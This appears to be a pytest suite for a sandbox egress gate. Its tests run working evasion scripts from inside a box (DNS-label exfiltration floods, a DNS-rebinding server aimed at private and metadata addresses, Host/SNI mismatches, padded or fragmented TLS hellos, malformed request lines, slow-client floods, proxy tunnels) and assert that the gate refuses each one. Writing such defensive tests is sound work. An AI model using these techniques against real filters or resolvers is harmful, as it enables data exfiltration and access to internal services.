"""A box that attacks: the gate, its own policy, or other boxes. Everything here must fail, and nothing may notice."""

import subprocess

import gatelib
import pytest
from gatelib import GATE, OTHER, WEB, WEB2


# Sends questions for n names below a zone as fast as it can; over UDP, then some over TCP.
QUESTIONS = """
import os, socket, struct, sys
zone, n, kind = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
def question(i):
    name = b"".join(bytes([len(l)]) + l for l in (b"%s%d" % (os.urandom(8).hex().encode(), i), *zone.encode().split(b"."))) + b"\\0"
    return struct.pack(">HHHHHH", i & 65535, 0x100, 1, 0, 0, 0) + name + struct.pack(">HH", kind, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setblocking(False); s.connect(("192.0.0.1", 53))
sent = 0
for i in range(n):
    try:
        s.send(question(i)); sent += 1
    except BlockingIOError:
        pass
codes = set()
try:
    t = socket.create_connection(("8.8.8.8", 53)); t.settimeout(20); f = t.makefile("rb")
    for i in range(50):
        q = question(i); t.sendall(struct.pack(">H", len(q)) + q); size = struct.unpack(">H", f.read(2))[0]; codes.add(f.read(size)[3] & 15)
except (OSError, struct.error):
    pass  # past its rate: the connection ends
print(sent, *sorted(codes))
"""


@pytest.mark.parametrize("kind", [1, 16, 28, 65])
def test_names_carry_nothing_out(gate, world, kind):
    """10,000 names below a zone that is not allowed, with data in them: not one question leaves the host."""
    box = gate.box(policy={"mode": "list", "allow": ["web.example"]})
    out = box.run("/usr/bin/python3", "-c", QUESTIONS, "leak.example", "10000", str(kind), timeout=60)
    sent, *codes = map(int, out.stdout.split())
    assert sent > 5000 and set(codes) <= {2, 3}, out  # refused, or told that there is no such name
    # Its own names are still answered, when the rate allows it again.
    world.wait(lambda: WEB in box.dig("web.example", "+short"), "an answer")
    assert "leak.example" not in world.dns_log.read_text()


def test_names_below_an_allowed_one_are_others(gate, world):
    box = gate.box(policy={"mode": "list", "allow": ["web.example", "*.two.example"], "deny": ["secret.two.example"]})
    for name in ("data.web.example", "web.example.leak2.example", "xweb.example", "x.secret.two.example", "secret.two.example"):
        for kind in ("A", "TXT", "MX", "SRV", "HTTPS", "CNAME"):
            if name == "x.secret.two.example":
                continue  # a deny rule names one name, not those below it
            world.wait(lambda n=name, k=kind: "NXDOMAIN" in box.dig(n, k), f"{name} {kind}")
    assert not any(n in world.dns_log.read_text() for n in ("data.web.example", "leak2", "xweb", "] secret.two.example"))


REBIND = """
import socket, struct, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((sys.argv[1], 53)); print("up", flush=True)
n = 0
while True:
    q, who = s.recvfrom(512)
    end = q.index(b"\\0", 12) + 5
    kind = struct.unpack(">H", q[end - 4:end - 2])[0]
    good = kind == 1
    n += good
    address = socket.inet_aton(sys.argv[2] if n == 1 else sys.argv[3])
    s.sendto(q[:2] + b"\\x85\\x80\\0\\1" + (b"\\0\\1" if good else b"\\0\\0") + bytes(4) + q[12:end] +
             (b"\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0\\0\\0\\4" + address if good else b""), who)
"""


@pytest.mark.parametrize("second", ["10.0.0.7", "169.254.169.254", GATE, "127.0.0.1"])
def test_a_name_that_changes_its_address_leads_nowhere_else(world, second):
    """TTL 0: the first answer is a public server, the next ones are inside."""
    rogue = "198.51.100.54"
    subprocess.run(["ip", "-n", world.servers.name, "addr", "replace", rogue + "/24", "dev", "s0"], check=True)
    server = world.start(world.servers, "/usr/bin/python3", "-c", REBIND, rogue, WEB, second, stdout=subprocess.PIPE)
    server.stdout.readline()
    before = world.resolv.read_text()
    world.resolv.write_text(f"nameserver {rogue}\noptions timeout:1 attempts:1\n")
    gate = gatelib.Gate(world)
    try:
        box = gate.box(policy={"mode": "list", "allow": ["rebind.example"]})
        opened = gate.box(policy={})
        for b in (box, opened):
            seen = {b.curl("http://rebind.example/")[0] for _ in range(6)}
            # The public server, or no address that may be reached; never another server.
            assert seen <= {200, 502, 403, -6}, seen
            for _ in range(3):
                status, body = b.curl("http://rebind.example/")
                assert status != 200 or body == f"http {WEB} rebind.example\n", body
        assert gate.process.poll() is None
    finally:
        gate.close()
        world.resolv.write_text(before)
        server.kill()
        server.wait()


def test_host_and_sni_that_disagree_with_the_address(gate):
    box = gate.box(policy={"mode": "list", "allow": ["web.example"]})
    # The address of a denied server with an allowed name leads to the allowed one; the other way round is refused.
    assert box.curl("https://web.example/", "--connect-to", f"web.example:443:{OTHER}:443", "-k")[0] in (200, -35)
    assert box.curl("http://web.example/", "-H", "Host: two.example")[0] == 403
    assert box.curl("http://two.example/", "--connect-to", f"two.example:80:{WEB}:80")[0] == 403
    assert box.curl("http://web.example/", "-H", f"Host: {WEB2}")[0] == 403
    assert box.curl("http://web.example/", "-H", "Host: web.example:8080")[0] == 403


def test_the_gates_own_port_answers_nothing(gate):
    """The listener is bound to port 1 of the box's namespace, at any address."""
    box = gate.box(policy={})
    code = ("import socket\n"
            "for a in ('127.0.0.1','192.0.0.2','127.1.2.3','198.51.100.10','192.0.0.1'):\n"
            " s=socket.socket(); s.settimeout(20)\n"
            " try:\n  s.connect((a,1)); s.sendall(b'GET / HTTP/1.1\\r\\nHost: web.example\\r\\n\\r\\n'); print(len(s.recv(10)))\n"
            " except OSError as e: print('refused')\n")
    out = box.python(code, timeout=120).split()
    assert out[:3] == ["refused"] * 3 and all(word in ("refused", "0", "10") for word in out), out
    assert box.curl("http://web.example/")[0] == 200


@pytest.mark.parametrize("policy", [{"mode": "list", "allow": ["web.example"]}, {"deny": ["evil.example"]}])
def test_slow_clients_end(gate, policy):
    """A hello or a head that comes byte by byte is waited for, and not for ever: no other connection notices. Also where the server was dialled ahead."""
    box = gate.box(policy=policy)
    slow = box.start("/usr/bin/python3", "-c",
                     "import socket,time\nall=[]\n"
                     "for i in range(200):\n s=socket.create_connection(('198.51.100.10',443 if i%2 else 80))\n"
                     " s.send(b'\\x16' if i%2 else b'G'); all.append(s)\n"
                     "print('held',flush=True)\n"
                     "for s in all:\n s.settimeout(60)\n try: s.recv(1)\n except ConnectionError: pass\nprint('over',flush=True)", stdout=subprocess.PIPE)
    assert slow.stdout.readline() == "held\n"
    assert box.curl("http://web.example/")[0] == 200
    assert slow.stdout.readline() == "over\n"
    slow.wait(60)
    assert gate.record(decision="deny", end="the client's first words did not end")


# Prints what comes back for a hello that names a server: `pad` bytes longer than it needs to be, in records of `size` bytes (0: as they are).
HELLO = """
import socket, ssl, sys
where, name, pad, size = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
c.set_alpn_protocols(["%099d" % i for i in range(pad // 100)] + ["http/1.1"])
a, b = ssl.MemoryBIO(), ssl.MemoryBIO(); t = c.wrap_bio(a, b, server_hostname=name)
try: t.do_handshake()
except ssl.SSLWantReadError: pass
hello = b.read()
if size:
    whole = b""
    while hello:
        n = int.from_bytes(hello[3:5], "big"); whole += hello[5:5 + n]; hello = hello[5 + n:]
    hello = b"".join(b"\\x16\\3\\1" + len(whole[i:i + size]).to_bytes(2, "big") + whole[i:i + size] for i in range(0, len(whole), size))
s = socket.create_connection((where, 443)); s.settimeout(60)
try:
    s.sendall(hello); print(s.recv(5).hex() or "end")
except OSError:
    print("reset")
"""


def test_a_hello_cannot_hide_its_name(gate):
    """A rule with a port lets every protocol pass; a hello that is too long to be read is TLS all the same."""
    box = gate.box(policy={"mode": "list", "allow": ["web.example:443"]})
    assert box.run("/usr/bin/python3", "-c", HELLO, "web.example", "web.example", "0", "1").stdout.startswith("16")
    for pad, size in ((4000, 1), (20000, 0), (0, 1)):
        out = box.run("/usr/bin/python3", "-c", HELLO, "web.example", "two.example", str(pad), str(size))
        assert out.stdout and not out.stdout.startswith("16"), (pad, size, out)
        assert gate.record(decision="deny", protocol="tls")


def test_an_unreadable_hello_is_refused_where_names_are_denied(gate):
    box = gate.box(policy={"deny": ["two.example"]})
    assert box.run("/usr/bin/python3", "-c", HELLO, WEB, "web.example", "0", "1").stdout.startswith("16")
    for pad, size in ((4000, 1), (20000, 0)):
        out = box.run("/usr/bin/python3", "-c", HELLO, WEB2, "two.example", str(pad), str(size))
        assert out.stdout and not out.stdout.startswith("16"), (pad, size, out)
        assert gate.record(decision="deny", rule="deny has names, and the TLS hello cannot be read")
    # Without denied names nobody needs to read it.
    opened = gate.box(policy={})
    assert opened.run("/usr/bin/python3", "-c", HELLO, WEB2, "two.example", "4000", "1").stdout.startswith("16")


SAY = """
import socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2]))); s.settimeout(60)
try:
    s.sendall(eval(sys.argv[3])); print(s.recv(4096))
except OSError:
    print("reset")
"""


@pytest.mark.parametrize("policy", [{"mode": "list", "allow": ["web.example:80"]}, {"deny": ["two.example"]}])
@pytest.mark.parametrize("line", [
    b"\r\nGET / HTTP/1.1", b"\n\n GET / HTTP/1.1", b"GET  / HTTP/1.1", b"GET\t/ HTTP/1.1", b"get / HTTP/1.1", b"G / HTTP/1.1", b"X-LONGER-METHOD / HTTP/1.1",
    b"GET x HTTP/1.1", b"GET x://two.example/", b"\r\n" * 11000 + b"GET / HTTP/1.1"], ids=lambda b: repr(b[:20]))
def test_a_request_cannot_hide_its_host(gate, policy, line):
    box = gate.box(policy=policy)
    request = f"{line!r} + b'\\r\\nHost: two.example\\r\\n\\r\\n'" if len(line) < 100 else \
        "b'\\r\\n' * 11000 + b'GET / HTTP/1.1\\r\\nHost: two.example\\r\\n\\r\\n'"
    out = box.run("/usr/bin/python3", "-c", SAY, "web.example" if "mode" in policy else WEB, "80", request)
    # The gate's own answer, or none; never the server's.
    assert out.stdout and "http 198" not in out.stdout and "nginx" not in out.stdout, out


@pytest.mark.parametrize("first", [
    b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u2\r\n", b"\0\0\0\x08\x04\xd2\x16\x2f", b"*1\r\n$4\r\nPING\r\n", b"NICK harry\r\n",
    b"get hello\r\n", b"AMQP\0\0\x09\x01",
    b"\n\0\0\0", b"\x16\x02"], ids=lambda b: repr(b[:8]))
def test_other_protocols_pass_where_a_rule_has_a_port(gate, world, first):
    if not world.connects(world.servers, OTHER, 7010):
        world.serve("while True:\n  b=s.recv(100)\n  if not b: break\n  s.sendall(b)", 7010)
    box = gate.box(policy={"mode": "list", "allow": ["other.example:7010"]})
    assert box.run("/usr/bin/python3", "-c", SAY, "other.example", "7010", repr(first)).stdout.strip() == repr(first)


def test_a_tunnel_through_a_proxy_ends_with_the_rule_for_its_target(gate, world):
    world.serve("s.recv(4096)\ns.sendall(b'HTTP/1.1 200 OK\\r\\n\\r\\n')\nwhile True:\n  b=s.recv(100)\n  if not b: break\n  s.sendall(b)", 3129)
    proxy = "other.example:3129"
    box = gate.box(policy={"mode": "list", "allow": [proxy, "web.example"]})
    tunnel = box.start("/usr/bin/python3", "-c",
                       "import socket,sys\ns=socket.create_connection(('other.example',3129)); s.settimeout(60)\n"
                       "s.sendall(b'CONNECT web.example:443 HTTP/1.1\\r\\nHost: web.example:443\\r\\n\\r\\n'); print(s.recv(12).decode()[9:],flush=True)\n"
                       "s.recv(100)\nfor line in sys.stdin:\n s.sendall(b'x'); print(s.recv(1),flush=True)\n"
                       " if line=='last\\n': break\ntry: print(s.recv(1))\nexcept OSError: print('reset')",
                       stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    assert tunnel.stdout.readline() == "200\n"
    for policy, word in (({"mode": "list", "allow": [proxy, "web.example", "two.example"]}, "go"), ({"deny": ["two.example"]}, "last")):
        gate.policy(box, **policy)
        tunnel.stdin.write(word + "\n")
        tunnel.stdin.flush()
        assert tunnel.stdout.readline() == "b'x'\n"
    gate.policy(box, mode="list", allow=[proxy])
    assert tunnel.stdout.readline() == "reset\n"
    assert tunnel.wait(60) == 0
    assert gate.record(decision="deny", end="cut by a changed policy")


def test_a_refused_request_is_in_the_log_once(gate):
    box = gate.box(policy={"mode": "list", "allow": ["web.example"]})
    assert box.curl("http://web.example/", "-H", "Host: two.example")[0] == 403
    assert "400" in box.run("/usr/bin/python3", "-c", SAY, "web.example", "80", "b'GET / HTTP/1.1\\nHost: web.example\\n\\n'").stdout
    assert gate.record(protocol="http")["name"] == "two.example"
    record = gate.record(protocol="http")
    assert record["rule"].startswith("no request that could be read: ") and record["decision"] == "deny"
    assert box.curl("http://web.example/")[0] == 200
    assert gate.record(protocol="http", decision="allow")["name"] == "web.example"
    # The connections ended in this order, and so did their records.
    assert [r["decision"] for r in gate.records if r.get("protocol") == "http"] == []


@pytest.mark.parametrize("host", [
    "-a.web.example", "a-.web.example", "a!b.web.example", "a" * 64 + ".web.example", "www..web.example", "[www.web.example]", "www.web.example..", f"{WEB}:x"],
    ids=lambda h: h[:16])
def test_a_host_that_is_no_name_is_refused_where_names_are_denied(gate, host):
    box = gate.box(policy={"deny": ["*.web.example"]})
    status, body = box.curl(f"http://{WEB}/", "-H", f"Host: {host}")
    assert status == 403 and "the Host of the request is neither a name nor an address" in body, (status, body)
    assert gate.record(op="log", protocol="http")["decision"] == "deny"
    # Names that nobody denies pass, and so do addresses, with and without a port.
    for good in ("web.example", "_x.web2.example", WEB, f"{WEB}:80", "[2001:db8:1::10]", "[2001:db8:1::10]:80"):
        assert box.curl(f"http://{WEB}/", "-H", f"Host: {good}")[0] == 200, good
    # Where no name is denied, nobody looks.
    assert gate.box(policy={}).curl(f"http://{WEB}/", "-H", f"Host: {host}")[0] != 403


def test_an_address_in_host_does_not_hide_a_denied_name(gate):
    """The box was told the address for a name that is denied: HTTP to the bare address is refused as every other protocol is."""
    box = gate.box(policy={"deny": ["two.example:80"]})
    assert box.curl(f"http://{WEB2}/")[0] == 200  # it has no name yet
    assert gate.record(op="log", port=80)["decision"] == "allow"
    assert WEB2 in box.dig("two.example", "+short")
    status, body = box.curl(f"http://{WEB2}/")
    assert status == 403 and "(two.example:80)" in body, (status, body)
    record = gate.record(op="log", port=80)
    assert (record["decision"], record["rule"], record["address"]) == ("deny", "two.example:80", WEB2)
    for request in (b"GET / HTTP/1.0\r\n\r\n", b"GET / HTTP/1.1\r\nHost:\r\n\r\n"):
        assert "403" in box.run("/usr/bin/python3", "-c", SAY, WEB2, "80", repr(request)).stdout
    assert box.curl(f"http://{WEB}/")[0] == 200 and box.curl(f"http://{WEB2}:8080/")[0] == 200
    # One that is open already is cut when the name is denied.
    gate.policy(box, deny=["web.example:80"])
    assert box.curl(f"http://{WEB2}/")[0] == 200
    talk = box.start("/usr/bin/python3", "-c",
                     f"import socket,sys\ns=socket.create_connection(('{WEB2}',80)); s.settimeout(60)\n"
                     f"s.sendall(b'GET / HTTP/1.1\\r\\nHost: {WEB2}\\r\\n\\r\\n'); print(s.recv(12).decode()[9:],flush=True)\n"
                     "try:\n while s.recv(999): pass\n print('end')\nexcept OSError: print('reset')", stdout=subprocess.PIPE)
    assert talk.stdout.readline() == "200\n"
    gate.policy(box, deny=["two.example:80"])
    assert talk.communicate(timeout=60)[0] == "reset\n"


ECHO = """
b = b''
while b'\\r\\n\\r\\n' not in b:
  d = s.recv(65536)
  if not d: break
  b += d
body = b.replace(b'\\r\\n', b'|')
s.sendall(b'HTTP/1.1 200 OK\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(body) + body)
s.close()
"""


def test_plain_requests_through_a_proxy(gate, world):
    """Refused where names are decided; where a box is only looked at for its secrets, the proxy gets what was asked for."""
    world.serve(ECHO, 3130)
    proxy = ("-x", f"http://{OTHER}:3130")
    for policy in ({"deny": ["two.example"]}, {"mode": "list", "allow": ["web.example:*", "other.example:3130"]}):
        box = gate.box(policy=policy)
        status, body = box.curl("http://web.example:3130/p?q", *proxy)
        assert status == 403 and "plain HTTP through a proxy is not passed on where names are decided" in body, (status, body)
        assert gate.record(op="log", id=box.id, port=3130)["decision"] == "deny"
    for policy in ({}, {"mode": "list", "allow": [f"{OTHER}:3130"]}):
        box = gate.box(policy=policy)
        place = "atoll_" + "0123456789abcdef" * 2
        gate.tell(op="secrets", id=box.id, secrets=[{"name": "key", "placeholder": place, "value": "v", "hosts": ["two.example"]}])
        status, body = box.curl("http://web.example/p?q", *proxy)
        assert status == 200 and body.startswith("GET http://web.example/p?q HTTP/1.1|Host: web.example|"), (status, body)
        assert gate.record(op="log", id=box.id, port=3130)["decision"] == "allow"
        assert box.curl(f"http://web.example/{place}", *proxy)[0] == 403
        assert box.curl(f"http://{OTHER}:3130/p")[1].startswith("GET /p HTTP/1.1|")


@pytest.mark.parametrize("name, why", [
    ("inside.example", "never reachable: a private address"), ("meta.example", "never reachable: a link-local address"),
    ("gate.example", "never reachable: an address of the host"), ("two.example", WEB2)])
def test_an_allowed_name_with_forbidden_addresses_is_refused(gate, name, why):
    box = gate.box(policy={"mode": "list", "allow": [name], "deny": [WEB2]})
    status, body = box.curl(f"http://{name}/", "--resolve", f"{name}:80:{WEB}")
    assert status == 403 and body == f"403 denied: this sandbox may not reach {name} port 80 ({why})\n", (status, body)
    status, body = box.curl(f"https://{name}/", "--resolve", f"{name}:443:{WEB}")
    assert status == -35 and "alert access denied" in body, (status, body)
    for port, protocol in ((80, "http"), (443, "tls")):
        record = gate.record(op="log", port=port)
        assert (record["name"], record["protocol"], record["decision"], record["rule"], record["end"]) == (name, protocol, "deny", why, "refused")
    assert not [r for r in gate.records if r.get("decision") == "allow"]
